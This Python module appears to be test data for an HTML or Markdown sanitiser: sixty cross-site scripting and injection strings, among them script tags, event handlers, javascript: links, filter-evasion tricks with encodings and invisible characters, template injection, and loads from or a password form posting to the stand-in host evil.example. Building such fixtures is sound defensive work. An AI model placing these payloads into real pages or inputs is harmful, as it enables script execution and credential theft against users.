"""Sixty strings that want to run a script, load something from elsewhere, or pass for something else.

A script that runs sets `window.pwned`. What is loaded from elsewhere would come from evil.example.
"""

from typing import Final

RUN: Final = "window.pwned=1"
ELSEWHERE: Final = "http://evil.example"

HOSTILE_STRINGS: Final = (
    # Scripts
    f"<script>{RUN}</script>",
    f"<SCRIPT>{RUN}</SCRIPT>",
    f"</script><script>{RUN}</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<script src={ELSEWHERE}/1.js></script>",
    "<script src=//evil.example/2.js></script>",
    f"<script type=module>import '{ELSEWHERE}/3.js'</script>",
    f"\"'><script>{RUN}</script>",
    f"--><script>{RUN}</script><!--",
    f"]]><script>{RUN}</script>",
    f"</textarea></title></style><script>{RUN}</script>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    # Handlers of events
    f"<img src=x onerror={RUN}>",
    f"<img src=x:x onerror\n=\n'{RUN}'>",
    f"<svg onload={RUN}>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>more</details>",
    f"<input autofocus onfocus={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<marquee onstart={RUN}>news</marquee>",
    f'" onmouseover="{RUN}" x="',
    f"' autofocus onfocus='{RUN}' tabindex='0",
    f"<p style=animation-name:fn onanimationstart={RUN}>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}></style></mglyph></table></mtext></math>",
    f"<template><img src=x onerror={RUN}></template>",
    # Images, media and pages from elsewhere
    f"<img src={ELSEWHERE}/4.png>",
    f"<img srcset='{ELSEWHERE}/5.png 2x'>",
    f"<picture><source srcset={ELSEWHERE}/6.png><img></picture>",
    f"<video poster={ELSEWHERE}/7.png src={ELSEWHERE}/7.mp4 autoplay></video>",
    f"<audio src={ELSEWHERE}/8.mp3 autoplay></audio>",
    f"<iframe src={ELSEWHERE}/9></iframe>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<object data={ELSEWHERE}/10></object>",
    f"<embed src={ELSEWHERE}/11>",
    f"<link rel=stylesheet href={ELSEWHERE}/12.css>",
    f"<link rel=preload as=image href={ELSEWHERE}/13.png>",
    f"<meta http-equiv=refresh content='0;url={ELSEWHERE}/14'>",
    f"<base href={ELSEWHERE}/>",
    f"<svg><image href={ELSEWHERE}/15.png /><use href={ELSEWHERE}/16.svg#x /></svg>",
    # Styles
    f"<style>@import url({ELSEWHERE}/17.css)</style>",
    f"<style>*{{background:url({ELSEWHERE}/18.png)}}</style>",
    f'<div style="background:url({ELSEWHERE}/19.png);position:fixed;inset:0">sign in</div>',
    f"'}};*{{background-image:url({ELSEWHERE}/20.png)}}/*",
    # Links and forms
    f"<a href=javascript:{RUN}>original</a>",
    f"<a href='java\tscript:{RUN}'>original</a>",
    f"<a href='data:text/html,<script>opener.{RUN}</script>'>original</a>",
    f"<form action={ELSEWHERE}/21><input name=password><button>sign in</button></form>",
    f"<button formaction=javascript:{RUN}>ask</button>",
    # Markdown and templates
    f"![chart]({ELSEWHERE}/22.png)",
    f"[original](javascript:{RUN})",
    f"[original][1]\n\n[1]: javascript:{RUN}",
    f"<{ELSEWHERE}/23> <javascript:{RUN}>",
    f"`</code><script>{RUN}</script>` $\\href{{javascript:{RUN}}}{{x}}$",
    f"${{{RUN}}} {{{{constructor.constructor('{RUN}')()}}}} <%= {RUN} %>",
    # Letters that are not what they seem
    f"\u202e<script>{RUN}</script>\u202c moc.elpmaxe",
    f"<scr\u200bipt>{RUN}</scr\u200bipt>\u2066\u2069\ufeff",
    f"\uff1cscript\uff1e{RUN}\uff1c/script\uff1e \x00\x1b[31m\x7f<img src=x onerror={RUN}>",
)
